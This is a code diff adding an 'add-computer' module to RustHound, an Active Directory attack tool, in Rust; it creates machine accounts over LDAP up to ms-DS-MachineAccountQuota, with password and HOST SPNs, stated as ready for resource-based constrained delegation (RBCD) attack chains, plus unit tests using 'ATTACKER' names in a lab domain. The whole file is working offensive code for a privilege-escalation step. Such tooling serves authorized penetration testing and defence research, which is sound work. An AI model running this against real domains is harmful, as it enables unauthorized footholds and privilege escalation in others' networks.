@@ -0,0 +1,151 @@
+//! Machine account creation (`rusthound add-computer`)
+//!
+//! Any user can create machine accounts up to the ms-DS-MachineAccountQuota of the domain (10 by default),
+//! the computers created are the ones with the SID of the user in mS-DS-CreatorSID. The quota is checked before
+//! the creation so no request is sent once it is reached. The account is created with its password, its DNS
+//! host name and the HOST and RestrictedKrbHost SPNs like the ones of `net computer add` or impacket addcomputer,
+//! ready for RBCD attack chains.
+use colored::Colorize;
+use ldap3::{Mod, Scope, SearchEntry};
+use log::{info, debug};
+
+use std::collections::HashSet;
+
+use crate::args::{AddComputerOptions, Options};
+use crate::attack::{connect, find_account, get_domain_dn, get_object_sid, whoami, write, WriteOperation};
+use crate::errors::{Result, RustHoundError};
+use crate::modules::smb::ntlm::utf16le;
+
+/// WORKSTATION_TRUST_ACCOUNT
+const UAC_WORKSTATION_TRUST_ACCOUNT: u32 = 0x1000;
+/// ms-DS-MachineAccountQuota default value
+const DEFAULT_MACHINE_ACCOUNT_QUOTA: usize = 10;
+/// Maximum length of one NetBIOS computer name
+const MAX_COMPUTER_NAME: usize = 15;
+
+/// Function to encode one password for unicodePwd: quoted and UTF-16LE.
+pub fn encode_unicode_pwd(password: &str) -> Vec<u8>
+{
+   utf16le(&format!("\"{}\"", password))
+}
+
+/// Function to get the computer name without `$`, checked for the NetBIOS rules.
+pub fn get_computer_name(name: &str) -> std::result::Result<String, String>
+{
+   let name = name.trim_end_matches('$').to_uppercase();
+   if name.is_empty() || name.len() > MAX_COMPUTER_NAME {
+      return Err(format!("computer name must have 1 to {} characters", MAX_COMPUTER_NAME))
+   }
+   if !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_') {
+      return Err("computer name must only have letters, digits, - and _".to_string())
+   }
+   Ok(name)
+}
+
+/// Function to prepare the attributes of one machine account.
+pub fn prepare_computer_attributes(name: &str, password: &str, domain: &str) -> Vec<(Vec<u8>, HashSet<Vec<u8>>)>
+{
+   let fqdn = format!("{}.{}", name, domain).to_lowercase();
+   let values = |values: Vec<String>| values.into_iter().map(|value| value.into_bytes()).collect::<HashSet<Vec<u8>>>();
+   vec![
+      (b"objectClass".to_vec(), values(vec!["top".to_string(), "person".to_string(), "organizationalPerson".to_string(), "user".to_string(), "computer".to_string()])),
+      (b"sAMAccountName".to_vec(), values(vec![format!("{}$", name)])),
+      (b"userAccountControl".to_vec(), values(vec![UAC_WORKSTATION_TRUST_ACCOUNT.to_string()])),
+      (b"dNSHostName".to_vec(), values(vec![fqdn.to_owned()])),
+      (b"servicePrincipalName".to_vec(), values(vec![
+         format!("HOST/{}", name),
+         format!("HOST/{}", fqdn),
+         format!("RestrictedKrbHost/{}", name),
+         format!("RestrictedKrbHost/{}", fqdn),
+      ])),
+      (b"unicodePwd".to_vec(), vec![encode_unicode_pwd(password)].into_iter().collect()),
+   ]
+}
+
+/// Function to get the ms-DS-MachineAccountQuota of the domain.
+async fn get_machine_account_quota(ldap: &mut ldap3::Ldap, domain_dn: &String) -> Result<usize>
+{
+   let (entries, _res) = ldap.search(domain_dn, Scope::Base, "(objectClass=*)", vec!["ms-DS-MachineAccountQuota"]).await?.success()?;
+   Ok(entries.into_iter()
+      .map(SearchEntry::construct)
+      .find_map(|entry| entry.attrs.get("ms-DS-MachineAccountQuota").and_then(|values| values.first()).and_then(|value| value.parse::<usize>().ok()))
+      .unwrap_or(DEFAULT_MACHINE_ACCOUNT_QUOTA))
+}
+
+/// Function to create one machine account within the MachineAccountQuota of the bound user.
+pub async fn add_computer(common_args: &Options, add_computer_args: &AddComputerOptions) -> Result<()>
+{
+   let name = get_computer_name(&add_computer_args.name).map_err(|reason| RustHoundError::WriteError {
+      dn: add_computer_args.name.to_owned(),
+      reason,
+   })?;
+   let domain_dn = get_domain_dn(&common_args.domain);
+   let container = match add_computer_args.ou.contains("not set") {
+      true => format!("CN=Computers,{}", domain_dn),
+      false => add_computer_args.ou.to_owned(),
+   };
+   let dn = format!("CN={},{}", name, container);
+
+   let mut ldap = connect(common_args).await?;
+
+   // Computers already created by the user
+   let quota = get_machine_account_quota(&mut ldap, &domain_dn).await?;
+   let user = whoami(&mut ldap).await?;
+   let user_entry = find_account(&mut ldap, &domain_dn, &user, vec!["objectSid"]).await?;
+   let user_sid = get_object_sid(&user_entry).ok_or(RustHoundError::WriteError {
+      dn: user_entry.dn.to_owned(),
+      reason: "objectSid of the bound user not readable".to_string(),
+   })?;
+   let filter = format!("(&(objectClass=computer)(mS-DS-CreatorSID={}))", user_sid);
+   let (created, _res) = ldap.search(&domain_dn, Scope::Subtree, &filter, vec!["sAMAccountName"]).await?.success()?;
+   info!("MachineAccountQuota: {}, {} computers already created by {}", quota, created.len(), user.bold());
+   if created.len() >= quota {
+      return Err(RustHoundError::WriteError {
+         dn,
+         reason: format!("MachineAccountQuota of {} reached by {}", quota, user),
+      })
+   }
+
+   // Machine account with its password, only sent over LDAPS
+   let attributes = prepare_computer_attributes(&name, &add_computer_args.password, &common_args.domain);
+   debug!("Adding {}", &dn);
+   let operation = WriteOperation {
+      add: true,
+      dn: dn.to_owned(),
+      mods: attributes.into_iter().map(|(attribute, values)| Mod::Add(attribute, values)).collect(),
+      sd_flags: None,
+      cleanup: format!("Delete the machine account {}", dn),
+   };
+   write(&mut ldap, common_args, &operation).await?;
+   if common_args.dry_run {
+      ldap.unbind().await?;
+      return Ok(())
+   }
+
+   let computer = find_account(&mut ldap, &domain_dn, &format!("{}$", name), vec!["objectSid"]).await?;
+   info!("Machine account {}$ created: {} {}",
+      name.bold().green(),
+      dn,
+      get_object_sid(&computer).map(|sid| sid.to_string()).unwrap_or_default(),
+   );
+   ldap.unbind().await?;
+   Ok(())
+}
+
+#[test]
+#[rustfmt::skip]
+pub fn test_prepare_computer_attributes() {
+   assert_eq!(encode_unicode_pwd("Ab1"), vec![0x22, 0, 0x41, 0, 0x62, 0, 0x31, 0, 0x22, 0]);
+   assert_eq!(get_computer_name("attacker$"), Ok("ATTACKER".to_string()));
+   assert!(get_computer_name("ATTACKER-COMPUTER01").is_err());
+   assert!(get_computer_name("ATT,CN=X").is_err());
+
+   let attributes = prepare_computer_attributes("ATTACKER", "Summer2024!", "ESSOS.LOCAL");
+   let get = |name: &str| attributes.iter().find(|(attribute, _)| attribute == name.as_bytes()).map(|(_, values)| values.to_owned()).unwrap();
+   assert!(get("sAMAccountName").contains(&b"ATTACKER$".to_vec()));
+   assert!(get("userAccountControl").contains(&b"4096".to_vec()));
+   assert!(get("dNSHostName").contains(&b"attacker.essos.local".to_vec()));
+   assert!(get("servicePrincipalName").contains(&b"HOST/attacker.essos.local".to_vec()));
+   assert_eq!(get("servicePrincipalName").len(), 4);
+   assert!(get("unicodePwd").contains(&encode_unicode_pwd("Summer2024!")));
+}